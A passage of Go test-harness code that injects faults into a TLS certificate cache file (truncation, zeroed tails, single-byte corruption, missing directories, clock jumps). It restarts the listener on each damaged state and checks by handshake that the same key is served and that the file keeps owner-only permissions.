package certdisk

import (
	"fmt"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Config is what is fixed for one case.
type Config struct {
	// Kind names the part of the enumeration the case belongs to (depth,
	// crash_prefix, crash_zerotail, corrupt, crash_dirs) or "random".
	Kind string `json:"kind"`
	// Depth is the number of not-yet-existing directories above the cache
	// file at the first boot (0-4).
	Depth int `json:"depth"`
	// KeySeed seeds the process-wide cryptographic randomness before every
	// boot (testing/cryptotest), so that the keys a case generates, and
	// with them the cache file's bytes, are a function of the case.
	KeySeed uint64 `json:"key_seed"`
}

// Step is one element of a history.  Step 0, the first boot on the empty
// root, is implicit and not part of the list.
type Step struct {
	Op  string `json:"op"`
	K   int    `json:"k,omitempty"`   // crash_prefix, crash_zerotail
	Off int    `json:"off,omitempty"` // corrupt
	Xor int    `json:"xor,omitempty"` // corrupt
	N   int    `json:"n,omitempty"`   // crash_dirs
}

// Operations.
const (
	opBoot     = "boot"
	opNoCache  = "boot_nocache"
	opDelete   = "delete"
	opPrefix   = "crash_prefix"
	opZeroTail = "crash_zerotail"
	opCorrupt  = "corrupt"
	opDirs     = "crash_dirs"
	opRestore  = "restore"
	opYears    = "years_pass" // the clock jumps N years ahead (the cached certificate expires); the file is untouched
)

// JSON is the canonical form of a step.
func (s Step) JSON() string {
	switch s.Op {
	case opPrefix, opZeroTail:
		return fmt.Sprintf(`{"op":%q,"k":%d}`, s.Op, s.K)
	case opCorrupt:
		return fmt.Sprintf(`{"op":%q,"off":%d,"xor":%d}`, s.Op, s.Off, s.Xor)
	case opDirs, opYears:
		return fmt.Sprintf(`{"op":%q,"n":%d}`, s.Op, s.N)
	}
	return fmt.Sprintf(`{"op":%q}`, s.Op)
}

func (s Step) String() string {
	switch s.Op {
	case opPrefix, opZeroTail:
		return fmt.Sprintf("%s k=%d", s.Op, s.K)
	case opCorrupt:
		return fmt.Sprintf("%s off=%d xor=0x%02x", s.Op, s.Off, s.Xor)
	case opDirs, opYears:
		return fmt.Sprintf("%s n=%d", s.Op, s.N)
	}
	return s.Op
}

// The enumeration is sized by constants only.  The cache file is 850-900
// bytes long and its length moves by a few bytes with the key, so offsets are
// enumerated up to MaxLen and an offset at or past the end of the actual file
// stands for "the complete file".
const (
	MaxDepth     = 4
	MaxLen       = 1100
	zeroTailStep = 64
	quickStride  = 7
	enumDepth    = 1 // nesting depth used by the file-damage enumeration
)

var (
	thoroughMasks = []int{0x01, 0x20, 0x80}
	quickMasks    = []int{0x01}
)

func sectionSizes(thorough bool) (depths, prefixes, zerotails, corrupts, dirs int64) {
	depths = MaxDepth + 1
	prefixes = MaxLen + 1
	zerotails = MaxLen/zeroTailStep + 1
	if thorough {
		corrupts = int64(MaxLen * len(thoroughMasks))
	} else {
		corrupts = int64((MaxLen+quickStride-1)/quickStride) * int64(len(quickMasks))
	}
	for d := 0; d <= MaxDepth; d++ {
		dirs += int64(d + 1)
	}
	return
}

// EnumSize is the number of enumerated cases of a tier.
func EnumSize(thorough bool) int64 {
	a, b, c, d, e := sectionSizes(thorough)
	return a + b + c + d + e
}

// enumCase returns enumerated case number n, or ok == false past the end.
func enumCase(n int64, thorough bool) (cfg Config, steps []Step, ok bool) {
	if n < 0 {
		return cfg, nil, false
	}
	depths, prefixes, zerotails, corrupts, dirs := sectionSizes(thorough)
	boot := Step{Op: opBoot}
	// every depth: first boot (implicit), second boot
	if n < depths {
		return Config{Kind: "depth", Depth: int(n)}, []Step{boot}, true
	}
	n -= depths
	// the file holds only the first k bytes, for every k
	if n < prefixes {
		return Config{Kind: opPrefix, Depth: enumDepth},
			[]Step{{Op: opPrefix, K: int(n)}, boot, boot}, true
	}
	n -= prefixes
	// full length, zeroes from k on
	if n < zerotails {
		return Config{Kind: opZeroTail, Depth: enumDepth},
			[]Step{{Op: opZeroTail, K: int(n) * zeroTailStep}, boot, boot}, true
	}
	n -= zerotails
	// one byte of the complete file changed
	if n < corrupts {
		var off, mask int
		if thorough {
			off, mask = int(n)/len(thoroughMasks), thoroughMasks[int(n)%len(thoroughMasks)]
		} else {
			off, mask = (int(n)/len(quickMasks))*quickStride, quickMasks[int(n)%len(quickMasks)]
		}
		return Config{Kind: opCorrupt, Depth: enumDepth},
			[]Step{{Op: opCorrupt, Off: off, Xor: mask}, boot, boot}, true
	}
	n -= corrupts
	// only the first m directories of the chain were made, at every depth
	if n < dirs {
		for d := 0; d <= MaxDepth; d++ {
			if n < int64(d+1) {
				return Config{Kind: opDirs, Depth: d},
					[]Step{{Op: opDirs, N: int(n)}, boot, boot}, true
			}
			n -= int64(d + 1)
		}
	}
	return cfg, nil, false
}

// randomCase draws a restart history of 2-8 steps.
func randomCase(rng *simkit.RNG) (Config, []Step) {
	cfg := Config{Kind: "random", Depth: rng.Intn(MaxDepth + 1)}
	n := rng.Range(2, 8)
	ops := []string{opBoot, opNoCache, opDelete, opPrefix, opZeroTail, opCorrupt, opDirs, opRestore, opYears}
	weights := []int{34, 8, 10, 12, 5, 13, 6, 12, 6}
	var steps []Step
	for i := 0; i < n-1; i++ {
		s := Step{Op: ops[rng.Pick(weights)]}
		switch s.Op {
		case opPrefix:
			s.K = rng.Intn(MaxLen + 1)
		case opZeroTail:
			s.K = rng.Intn(MaxLen + 1)
		case opCorrupt:
			s.Off = rng.Intn(MaxLen)
			s.Xor = rng.Range(1, 255)
		case opDirs:
			s.N = rng.Intn(cfg.Depth + 1)
		case opYears:
			s.N = []int{1, 9, 11, 40}[rng.Intn(4)]
		}
		steps = append(steps, s)
	}
	// a history always ends with a start, so that the state it built is judged
	steps = append(steps, Step{Op: opBoot})
	return cfg, steps
}
