// Package certdisk is the fault-enumeration engine for the certificate cache
// (property C08): it enumerates the durable states an interrupted write of
// the cache file can leave, single-byte corruptions of a complete file and
// seeded restart histories, boots the real sstls.Listen on each of them and
// observes, by a real TLS handshake, which key the boot serves.
package certdisk

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime/debug"
	"sync"
	"syscall"
	"testing"
	"testing/cryptotest"
	"testing/synctest"
	"time"

	"github.com/magisterquis/curlrevshell/lib/sstls"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Property is the property this engine judges.
const Property = "C08"

// Invariant slugs.
const (
	InvStable      = "stable-identity"
	InvFingerprint = "fingerprint-matches-served"
	InvRewritten   = "never-rewritten"
	InvRegenerate  = "regenerates-missing"
	InvIntact      = "intact-cache-loads"
	InvOwnerOnly   = "owner-only"
	InvNoCache     = "nocache-boot-starts"
)

// Engine is the C08 engine.
type Engine struct{}

// Name implements simkit.Engine.
func (Engine) Name() string { return "certdisk" }

var umaskOnce sync.Once

// Run implements simkit.Engine.
func (Engine) Run(t *testing.T, job *simkit.Job, rng *simkit.RNG, idx int64, c *simkit.Case) *simkit.Outcome {
	// with umask 0 the modes the code asks for are the modes observed
	umaskOnce.Do(func() { syscall.Umask(0) })
	var (
		cfg   Config
		steps []Step
	)
	r := &run{faults: map[string]int64{}, probes: map[string]int64{}, ids: map[string]int{},
		states: simkit.Set64{}, trans: simkit.Set64{}}
	if c != nil {
		if err := json.Unmarshal(c.Config, &cfg); err != nil {
			return &simkit.Outcome{HarnessErr: "bad config: " + err.Error()}
		}
		for _, raw := range c.Actions {
			var s Step
			if err := json.Unmarshal(raw, &s); err != nil {
				return &simkit.Outcome{HarnessErr: "bad action: " + err.Error()}
			}
			steps = append(steps, s)
		}
	} else {
		workers := int64(job.Workers)
		if workers < 1 {
			workers = 1
		}
		n := idx*workers + int64(job.Worker)
		var ok bool
		if cfg, steps, ok = enumCase(n, job.Tier == "thorough"); ok {
			// all enumerated cases of one seed damage the same file: every
			// prefix length and every offset of one and the same B
			cfg.KeySeed = simkit.Mix(job.Seed, 0xC08) >> 11 // 53 bits: exact in every JSON reader
			r.probes["enum_cases"]++
		} else {
			seed := rng.Uint64() >> 11
			cfg, steps = randomCase(rng)
			cfg.KeySeed = seed
			r.probes["random_cases"]++
		}
	}
	r.cfg, r.steps = cfg, steps
	r.scratch = job.Scratch
	if !r.validate() {
		r.invalid = true
		return r.outcome()
	}
	func() {
		defer func() {
			if p := recover(); p != nil {
				r.fail(fmt.Sprintf("panic outside the bubble: %v\n%s", p, debug.Stack()))
			}
		}()
		// A bubble gives the code a fake clock (it starts at the same
		// instant in every run, and moves only when the harness sleeps):
		// with the seeded randomness the bytes of the cache file are then a
		// function of the case alone.
		synctest.Test(t, func(bt *testing.T) { r.main(bt) })
	}()
	return r.outcome()
}

// ---- one run ----------------------------------------------------------------

// File-state classes (they appear in signatures).
const (
	clsMissing   = "missing"
	clsIntact    = "intact"
	clsTruncated = "truncated"
	clsZeroTail  = "zero-tailed"
	clsCorrupted = "corrupted"
)

type run struct {
	cfg     Config
	steps   []Step
	scratch string

	root  string
	base  string   // directory that exists before the first boot
	dirs  []string // the chain of directories the first boot has to make
	file  string
	boots int

	// the lineage of the current cache file: its complete original bytes,
	// as written by the boot that created it, and the key that boot served
	origB    []byte
	origID   string
	origMode fs.FileMode
	class    string

	step       int
	ids        map[string]int
	faults     map[string]int64
	probes     map[string]int64
	states     simkit.Set64
	trans      simkit.Set64
	nontrivial bool
	found      []simkit.Found
	trace      []string
	invalid    bool
	harnessErr string
}

func (r *run) fail(msg string) {
	if r.harnessErr == "" {
		r.harnessErr = msg
	}
}

func (r *run) validate() bool {
	if r.cfg.Depth < 0 || r.cfg.Depth > MaxDepth {
		return false
	}
	for _, s := range r.steps {
		switch s.Op {
		case opBoot, opNoCache, opDelete, opRestore:
		case opPrefix, opZeroTail:
			if s.K < 0 {
				return false
			}
		case opCorrupt:
			if s.Off < 0 || s.Xor < 0 || s.Xor > 255 {
				return false
			}
		case opDirs:
			if s.N < 0 {
				return false
			}
		case opYears:
			if s.N < 1 || s.N > 100 {
				return false
			}
		default:
			return false
		}
	}
	return true
}

func (r *run) outcome() *simkit.Outcome {
	o := &simkit.Outcome{
		Invalid: r.invalid, Steps: int64(r.step), Faults: r.faults, Probes: r.probes,
		NonTrivial: r.nontrivial, Violations: r.found, Trace: r.trace, HarnessErr: r.harnessErr,
		States: r.states.Sorted(), Transitions: r.trans.Sorted(),
	}
	cb, _ := json.Marshal(r.cfg)
	cs := &simkit.Case{Config: cb, Actions: []json.RawMessage{}}
	// the key seed selects key material, not a different case
	parts := []string{r.cfg.Kind, fmt.Sprint(r.cfg.Depth)}
	for _, s := range r.steps {
		cs.Actions = append(cs.Actions, json.RawMessage(s.JSON()))
		parts = append(parts, s.JSON())
	}
	o.Case = cs
	o.Hash = simkit.Hash64(parts...)
	return o
}

func (r *run) logf(format string, a ...any) {
	r.trace = append(r.trace, fmt.Sprintf("step %d ", r.step)+fmt.Sprintf(format, a...))
}

func (r *run) violate(inv, sig, msg string) {
	r.found = append(r.found, simkit.Found{Property: Property, Invariant: inv, Signature: sig, Message: msg})
	r.trace = append(r.trace, fmt.Sprintf("step %d   VIOLATION %s: %s", r.step, inv, sig))
}

// idName numbers identities in order of first appearance.
func (r *run) idName(id string) string {
	n, ok := r.ids[id]
	if !ok {
		n = len(r.ids) + 1
		r.ids[id] = n
	}
	return fmt.Sprintf("ID#%d", n)
}

// oldTime is the modification time the harness gives the cache file after
// every change of its own and after every creation by the code: a later write
// by the code cannot go unnoticed, however coarse the file system's clock.
var oldTime = time.Date(2001, 2, 3, 4, 5, 6, 0, time.UTC)

func (r *run) main(bt *testing.T) {
	defer func() {
		if p := recover(); p != nil {
			r.fail(fmt.Sprintf("panic in the engine: %v\n%s", p, debug.Stack()))
		}
	}()
	scratch := r.scratch
	if scratch == "" {
		scratch = os.TempDir()
	}
	root, err := os.MkdirTemp(scratch, "c08-")
	if err != nil {
		r.fail("scratch: " + err.Error())
		return
	}
	defer os.RemoveAll(root)
	r.root = root
	r.base = root
	// the directory that is there before the code runs gets a mode the code
	// would not have chosen: it has to stay as it is.  (It is the run's
	// private root itself: every directory more costs a millisecond on the
	// scratch file system.)
	if err := os.Chmod(r.base, 0o755); err != nil {
		r.fail("scratch: " + err.Error())
		return
	}
	dir := r.base
	for i := 1; i <= r.cfg.Depth; i++ {
		dir = filepath.Join(dir, fmt.Sprintf("d%d", i))
		r.dirs = append(r.dirs, dir)
	}
	r.file = filepath.Join(dir, "cert.txtar")
	r.class = clsMissing

	// step 0: the run that creates the cache
	r.step = 0
	r.boot(bt, true)
	for _, s := range r.steps {
		if len(r.found) > 0 || r.harnessErr != "" {
			break
		}
		simkit.Heartbeat.Add(1)
		r.step++
		r.trans.Add(simkit.Hash64(r.class, s.Op))
		switch s.Op {
		case opBoot:
			r.boot(bt, true)
		case opNoCache:
			r.boot(bt, false)
		case opYears:
			// restarts years apart: the cached certificate may have expired by
			// then, the identity it carries has not
			time.Sleep(time.Duration(s.N) * 366 * 24 * time.Hour)
			r.probes["years_passed"] += int64(s.N)
			r.faults["clock_jump_years"]++
			r.nontrivial = true
			r.logf("years_pass n=%d", s.N)
		default:
			r.inject(s)
		}
	}
	r.step++ // number of steps executed, step 0 included
}

// ---- the durable state ------------------------------------------------------

type dirState struct {
	exists bool
	mode   fs.FileMode
}

type snapshot struct {
	exists bool
	data   []byte
	ino    uint64
	mtime  time.Time
	mode   fs.FileMode
	base   dirState
	dirs   []dirState
}

func statDir(p string) (dirState, error) {
	fi, err := os.Lstat(p)
	if err != nil {
		if os.IsNotExist(err) {
			return dirState{}, nil
		}
		return dirState{}, err
	}
	return dirState{exists: true, mode: fi.Mode()}, nil
}

func (r *run) snapshot() (snapshot, bool) {
	var s snapshot
	var err error
	if s.base, err = statDir(r.base); err != nil {
		r.fail("stat: " + err.Error())
		return s, false
	}
	for _, d := range r.dirs {
		ds, err := statDir(d)
		if err != nil {
			r.fail("stat: " + err.Error())
			return s, false
		}
		s.dirs = append(s.dirs, ds)
	}
	fi, err := os.Lstat(r.file)
	if err != nil {
		if os.IsNotExist(err) {
			return s, true
		}
		r.fail("stat: " + err.Error())
		return s, false
	}
	s.exists = true
	s.mode = fi.Mode()
	s.mtime = fi.ModTime()
	if st, ok := fi.Sys().(*syscall.Stat_t); ok {
		s.ino = uint64(st.Ino)
	}
	if fi.Mode().IsRegular() {
		if s.data, err = os.ReadFile(r.file); err != nil {
			r.fail("read: " + err.Error())
			return s, false
		}
	}
	return s, true
}

// put makes the cache file hold data (same mode as the code gave it).
func (r *run) put(data []byte) bool {
	for _, d := range r.dirs {
		if err := os.Mkdir(d, 0o700); err != nil && !os.IsExist(err) {
			r.fail("mkdir: " + err.Error())
			return false
		}
	}
	mode := r.origMode.Perm()
	if err := os.WriteFile(r.file, data, mode); err != nil {
		r.fail("write: " + err.Error())
		return false
	}
	if err := os.Chtimes(r.file, oldTime, oldTime); err != nil {
		r.fail("chtimes: " + err.Error())
		return false
	}
	return true
}

func (r *run) remove() (existed bool, ok bool) {
	err := os.Remove(r.file)
	if err == nil {
		return true, true
	}
	if os.IsNotExist(err) {
		return false, true
	}
	r.fail("remove: " + err.Error())
	return false, false
}

// block names the part of the complete file an offset falls in.
func (r *run) block(off int) string {
	ci := bytes.Index(r.origB, []byte("-- cert --"))
	ki := bytes.Index(r.origB, []byte("-- key --"))
	switch {
	case ci < 0 || ki < 0 || ki < ci:
		return "corrupt_unclassified"
	case off < ci:
		return "corrupt_header"
	case off < ki:
		return "corrupt_cert"
	}
	return "corrupt_key"
}

// inject applies one harness-made change of the durable state.  Damage is
// always derived from the complete original file of the current lineage.
func (r *run) inject(s Step) {
	if r.origB == nil {
		r.fail("no cache file was ever created, yet the run went on")
		return
	}
	B := r.origB
	switch s.Op {
	case opDelete:
		existed, ok := r.remove()
		if !ok {
			return
		}
		if existed {
			r.faults["delete"]++
			r.nontrivial = true
			r.logf("delete -> cache=missing")
		} else {
			r.logf("delete -> cache=missing (already)")
		}
		r.class = clsMissing
	case opRestore:
		if !r.put(B) {
			return
		}
		r.class = clsIntact
		r.logf("restore -> cache=intact")
	case opPrefix:
		if s.K >= len(B) {
			if !r.put(B) {
				return
			}
			r.class = clsIntact
			r.probes["damage_past_end"]++
			r.logf("%s -> cache=intact (complete file)", s)
			return
		}
		if !r.put(B[:s.K]) {
			return
		}
		r.class = clsTruncated
		r.faults[opPrefix]++
		r.nontrivial = true
		r.logf("%s -> cache=truncated", s)
	case opZeroTail:
		if s.K >= len(B) {
			if !r.put(B) {
				return
			}
			r.class = clsIntact
			r.probes["damage_past_end"]++
			r.logf("%s -> cache=intact (complete file)", s)
			return
		}
		d := make([]byte, len(B))
		copy(d, B[:s.K])
		if !r.put(d) {
			return
		}
		r.class = clsZeroTail
		r.faults[opZeroTail]++
		r.nontrivial = true
		r.logf("%s -> cache=zero-tailed", s)
	case opCorrupt:
		if s.Off >= len(B) || s.Xor == 0 {
			if !r.put(B) {
				return
			}
			r.class = clsIntact
			r.probes["damage_past_end"]++
			r.logf("%s -> cache=intact (complete file)", s)
			return
		}
		d := append([]byte(nil), B...)
		d[s.Off] ^= byte(s.Xor)
		if !r.put(d) {
			return
		}
		r.class = clsCorrupted
		blk := r.block(s.Off)
		r.faults[blk]++
		r.nontrivial = true
		r.logf("%s -> cache=corrupted (%s)", s, blk[len("corrupt_"):])
	case opDirs:
		n := s.N
		if n > len(r.dirs) {
			n = len(r.dirs)
		}
		if _, ok := r.remove(); !ok {
			return
		}
		if n < len(r.dirs) {
			if err := os.RemoveAll(r.dirs[n]); err != nil {
				r.fail("rmdir: " + err.Error())
				return
			}
		}
		for i := 0; i < n; i++ {
			if err := os.Mkdir(r.dirs[i], 0o700); err != nil && !os.IsExist(err) {
				r.fail("mkdir: " + err.Error())
				return
			}
		}
		r.class = clsMissing
		r.faults[opDirs]++
		r.nontrivial = true
		r.logf("%s -> cache=missing, %d of %d directories exist", s, n, len(r.dirs))
	}
}

// ---- a boot and its judgement -----------------------------------------------

func (r *run) boot(bt *testing.T, useCache bool) {
	// the clock of the code moves between runs (the harness is the only
	// goroutine of the bubble here)
	time.Sleep(time.Hour + 7*time.Second)

	pre, ok := r.snapshot()
	if !ok {
		return
	}
	cls := r.class
	if pre.exists != (cls != clsMissing) {
		r.fail(fmt.Sprintf("model and disk disagree: class %s, file exists %v", cls, pre.exists))
		return
	}
	r.boots++
	cryptotest.SetGlobalRandom(bt, simkit.Mix(r.cfg.KeySeed, uint64(r.boots)))
	certFile := ""
	opName := "boot without cache"
	if useCache {
		certFile = r.file
		opName = "boot on " + cls + " cache"
		if cls == clsMissing {
			opName = "boot with missing cache"
		}
	}
	l, err := sstls.Listen("tcp", "127.0.0.1:0", "", 0, certFile)
	var (
		sv         served
		advertised string
	)
	if err != nil {
		if isListenError(err) {
			r.fail("cannot listen on the loopback interface: " + err.Error())
			return
		}
	} else {
		advertised = l.Fingerprint
		if l.Listener == nil {
			r.fail("sstls.Listen returned neither an error nor a listener")
			return
		}
		sv = observe(&l)
		_ = l.Close()
		if sv.loopback {
			r.probes["loopback_fallback"]++
		}
		if sv.err != nil {
			r.fail("handshake with the started listener failed for a reason the harness cannot attribute: " + sv.err.Error())
			return
		}
	}
	post, ok := r.snapshot()
	if !ok {
		return
	}

	// --- trace line
	res := "err"
	if err == nil {
		r.probes["boots_ok"]++
		switch {
		case sv.rejected:
			res = "ok handshake-rejected"
		case advertised == sv.identity:
			res = "ok " + r.idName(sv.identity) + " fp=match"
		default:
			res = "ok " + r.idName(sv.identity) + " fp=OTHER"
		}
	} else {
		r.probes["boots_failed"]++
	}
	fileRes := "file=absent"
	switch {
	case pre.exists && sameFile(pre, post):
		fileRes = "file=unchanged"
	case pre.exists:
		fileRes = "file=CHANGED"
	case post.exists:
		fileRes = fmt.Sprintf("file=created len=%d", len(post.data))
	}
	if useCache {
		r.logf("boot cache=%s -> %s %s", cls, res, fileRes)
	} else {
		r.logf("boot_nocache cache=%s -> %s %s", cls, res, fileRes)
	}
	r.states.Add(simkit.Hash64(fmt.Sprint(useCache), cls, res[:2], fileRes[:8]))

	// --- an existing file is never rewritten
	if pre.exists && !sameFile(pre, post) {
		what := "its content"
		switch {
		case !post.exists:
			what = "it is gone"
		case bytes.Equal(pre.data, post.data) && pre.ino != post.ino:
			what = "same content, another inode"
		case bytes.Equal(pre.data, post.data):
			what = "same content, written again"
		}
		r.violate(InvRewritten, opName+" changed the existing cache file",
			fmt.Sprintf("%s: the cache file that existed before the start was changed by it (%s; %d bytes before, %d after; start returned error: %v)",
				opName, what, len(pre.data), len(post.data), err))
	}

	// --- what was served
	if err == nil {
		if sv.rejected {
			r.violate(InvStable, opName+" started with a certificate that does not match its private key",
				opName+": the listener started, but a client refused its handshake: certificate and private key do not belong together")
		} else if advertised != sv.identity {
			r.violate(InvFingerprint, "advertised fingerprint differs from the key served",
				fmt.Sprintf("%s: Listener.Fingerprint is %q, but the handshake presented a key whose base64(sha256(SPKI)) is %q", opName, advertised, sv.identity))
		}
	}
	switch {
	case !useCache:
		if err != nil {
			r.violate(InvNoCache, "boot without cache failed", "start without a cache file failed: "+err.Error())
		}
	case pre.exists:
		switch {
		case err != nil && cls == clsIntact:
			r.violate(InvIntact, "boot on intact cache failed",
				"start on a complete, undamaged cache file failed: "+err.Error())
		case err != nil:
			// a damaged file may be refused
		case sv.rejected:
		case sv.identity != r.origID:
			r.violate(InvStable, opName+" served a different key",
				fmt.Sprintf("%s: the start succeeded and served %s, the run that created the file served %s",
					opName, r.idName(sv.identity), r.idName(r.origID)))
		case cls == clsCorrupted:
			r.probes["harmless_corruption_loaded"]++
		case cls != clsIntact:
			r.probes["harmless_damage_loaded"]++
		}
	default: // nothing there: it is simply made again
		switch {
		case err != nil:
			r.violate(InvRegenerate, "boot with missing cache failed",
				"start with a configured but missing cache file failed: "+err.Error())
		case !post.exists:
			r.violate(InvRegenerate, "boot with missing cache did not create the cache file",
				"start with a configured but missing cache file succeeded without creating it")
		default:
			if r.origB != nil {
				r.probes["regenerated"]++
			}
			if !sv.rejected {
				r.origB, r.origID, r.origMode, r.class = post.data, sv.identity, post.mode, clsIntact
				if e := os.Chtimes(r.file, oldTime, oldTime); e != nil {
					r.fail("chtimes: " + e.Error())
				}
			}
		}
	}

	// --- modes
	if post.exists && post.mode.Perm()&0o077 != 0 {
		r.violate(InvOwnerOnly, "cache file accessible to group or others",
			fmt.Sprintf("%s: the file holding the private key has mode %04o", opName, post.mode.Perm()))
	}
	if post.exists && !post.mode.IsRegular() {
		r.violate(InvOwnerOnly, "cache file is not a regular file", fmt.Sprintf("%s: mode %v", opName, post.mode))
	}
	created, changed := false, false
	var badMode fs.FileMode
	for i := range post.dirs {
		switch {
		case pre.dirs[i].exists:
			if !post.dirs[i].exists || post.dirs[i].mode != pre.dirs[i].mode {
				changed = true
			}
		case post.dirs[i].exists:
			r.probes["dirs_created"]++
			if post.dirs[i].mode.Perm()&0o077 != 0 {
				created, badMode = true, post.dirs[i].mode.Perm()
			}
		}
	}
	if post.base != pre.base {
		changed = true
	}
	if created {
		r.violate(InvOwnerOnly, "created cache directory accessible to group or others",
			fmt.Sprintf("%s: a directory made for the cache file has mode %04o", opName, badMode))
	}
	if changed {
		// the statement speaks of the directories created for the file: what a
		// start does to one that was there before is counted, not judged
		r.probes["existing_directory_mode_changed"]++
	}
}

func sameFile(a, b snapshot) bool {
	return a.exists == b.exists && a.ino == b.ino && a.mtime.Equal(b.mtime) && bytes.Equal(a.data, b.data)
}
