package certdisk

import (
	"crypto/sha256"
	"crypto/tls"
	"encoding/base64"
	"errors"
	"io"
	"net"
	"reflect"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/sstls"
)

// ---- a buffered in-memory connection pair ---------------------------------
//
// net.Pipe is synchronous: two TLS ends that write their close-notify at the
// same moment block each other.  Here every direction is an unbounded queue,
// so a write never blocks and only a read of an empty queue waits.

type pipeHalf struct {
	mu      sync.Mutex
	cond    *sync.Cond
	buf     []byte
	wclosed bool // the writer went away: EOF once the queue is drained
	rclosed bool // the reader went away
}

func newHalf() *pipeHalf {
	h := &pipeHalf{}
	h.cond = sync.NewCond(&h.mu)
	return h
}

func (h *pipeHalf) read(p []byte) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	for len(h.buf) == 0 && !h.wclosed && !h.rclosed {
		h.cond.Wait()
	}
	if h.rclosed {
		return 0, io.ErrClosedPipe
	}
	if len(h.buf) == 0 {
		return 0, io.EOF
	}
	n := copy(p, h.buf)
	h.buf = h.buf[n:]
	return n, nil
}

func (h *pipeHalf) write(p []byte) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.wclosed || h.rclosed {
		return 0, io.ErrClosedPipe
	}
	h.buf = append(h.buf, p...)
	h.cond.Broadcast()
	return len(p), nil
}

func (h *pipeHalf) closeWrite() {
	h.mu.Lock()
	h.wclosed = true
	h.cond.Broadcast()
	h.mu.Unlock()
}

func (h *pipeHalf) closeRead() {
	h.mu.Lock()
	h.rclosed = true
	h.buf = nil
	h.cond.Broadcast()
	h.mu.Unlock()
}

type memAddr string

func (a memAddr) Network() string { return "mem" }
func (a memAddr) String() string  { return string(a) }

type memConn struct {
	in, out *pipeHalf
	name    memAddr
	peer    memAddr
}

func (c *memConn) Read(p []byte) (int, error)  { return c.in.read(p) }
func (c *memConn) Write(p []byte) (int, error) { return c.out.write(p) }
func (c *memConn) Close() error {
	c.out.closeWrite()
	c.in.closeRead()
	return nil
}
func (c *memConn) LocalAddr() net.Addr              { return c.name }
func (c *memConn) RemoteAddr() net.Addr             { return c.peer }
func (c *memConn) SetDeadline(time.Time) error      { return nil }
func (c *memConn) SetReadDeadline(time.Time) error  { return nil }
func (c *memConn) SetWriteDeadline(time.Time) error { return nil }

// memPipe returns the two ends of a buffered connection.
func memPipe() (client, server *memConn) {
	a, b := newHalf(), newHalf()
	client = &memConn{in: a, out: b, name: "client", peer: "server"}
	server = &memConn{in: b, out: a, name: "server", peer: "client"}
	return client, server
}

// memListener hands out the server ends it is given.
type memListener struct {
	ch     chan net.Conn
	closed chan struct{}
	once   sync.Once
}

func newMemListener() *memListener {
	return &memListener{ch: make(chan net.Conn, 1), closed: make(chan struct{})}
}

func (l *memListener) Accept() (net.Conn, error) {
	select {
	case c := <-l.ch:
		return c, nil
	case <-l.closed:
		return nil, net.ErrClosed
	}
}
func (l *memListener) Close() error   { l.once.Do(func() { close(l.closed) }); return nil }
func (l *memListener) Addr() net.Addr { return memAddr("server") }

// ---- getting underneath the TLS listener ----------------------------------

var netListenerType = reflect.TypeOf((*net.Listener)(nil)).Elem()

// swapInner replaces the net.Listener underneath the crypto/tls listener that
// sstls.Listen returned (sstls.Listener.Listener is a *tls.listener whose
// embedded field Listener is exported and therefore settable).
func swapInner(l *sstls.Listener, with net.Listener) (old net.Listener, ok bool) {
	defer func() {
		if recover() != nil {
			old, ok = nil, false
		}
	}()
	if l.Listener == nil {
		return nil, false
	}
	v := reflect.ValueOf(l.Listener)
	if v.Kind() != reflect.Pointer || v.IsNil() || v.Elem().Kind() != reflect.Struct {
		return nil, false
	}
	f := v.Elem().FieldByName("Listener")
	if !f.IsValid() || !f.CanSet() || f.Type() != netListenerType || f.IsNil() {
		return nil, false
	}
	old, _ = f.Interface().(net.Listener)
	if old == nil {
		return nil, false
	}
	f.Set(reflect.ValueOf(with))
	return old, true
}

// ---- one observed handshake -------------------------------------------------

// served is what one handshake against a started listener showed.
type served struct {
	identity string // base64(sha256(SubjectPublicKeyInfo)) of the certificate presented
	rejected bool   // the client refused the server's handshake messages
	loopback bool   // the in-memory swap was impossible, a real loopback dial was used
	err      error  // the harness could not complete the observation
}

type clientResult struct {
	spki []byte
	err  error
}

// observe performs one TLS handshake with the listener and reports the key it
// really serves.  It does not close l.
func observe(l *sstls.Listener) served {
	var out served
	ml := newMemListener()
	var dial func() (net.Conn, error)
	if old, ok := swapInner(l, ml); ok {
		_ = old.Close() // the real socket is no longer needed
		dial = func() (net.Conn, error) {
			cc, sc := memPipe()
			ml.ch <- sc
			return cc, nil
		}
	} else {
		out.loopback = true
		addr := l.Addr().String()
		dial = func() (net.Conn, error) { return net.DialTimeout("tcp", addr, 10*time.Second) }
	}

	resc := make(chan clientResult, 1)
	release := make(chan struct{})
	finished := make(chan struct{})
	go func() {
		defer close(finished)
		cc, err := dial()
		if err != nil {
			resc <- clientResult{err: err}
			return
		}
		c := tls.Client(cc, &tls.Config{InsecureSkipVerify: true, CurvePreferences: []tls.CurveID{tls.X25519}})
		err = c.Handshake()
		var spki []byte
		if err == nil {
			st := c.ConnectionState()
			if len(st.PeerCertificates) == 0 {
				err = errors.New("server presented no certificate")
			} else {
				spki = append(spki, st.PeerCertificates[0].RawSubjectPublicKeyInfo...)
			}
		}
		resc <- clientResult{spki: spki, err: err}
		if err == nil {
			<-release // stay open until the server side has finished its handshake
		}
		_ = c.Close()
	}()

	conn, aerr := l.Accept()
	var serr error
	if aerr != nil {
		serr = aerr
	} else if tc, ok := conn.(*tls.Conn); !ok {
		serr = errors.New("listener returned a connection that is not a *tls.Conn")
		_ = conn.Close()
		conn = nil
	} else {
		serr = tc.Handshake()
		if serr != nil {
			_ = conn.Close()
			conn = nil
		}
	}
	if aerr != nil {
		// nothing will ever answer the client: end the in-memory listener so
		// a queued connection cannot keep anybody waiting
		_ = ml.Close()
		if !out.loopback {
			select {
			case c := <-ml.ch:
				_ = c.Close()
			case <-finished:
			}
		}
	}
	close(release)
	res := <-resc
	<-finished
	if conn != nil {
		_ = conn.Close()
	}

	switch {
	case serr == nil && res.err == nil:
		h := sha256.Sum256(res.spki)
		out.identity = base64.StdEncoding.EncodeToString(h[:])
	case serr != nil && res.err != nil && isRemoteError(serr):
		// The client (standard library, verification of the chain switched
		// off) refused what the server sent: the certificate presented and
		// the private key used do not belong together.
		out.rejected = true
	default:
		out.err = errors.Join(
			wrap("server side", serr),
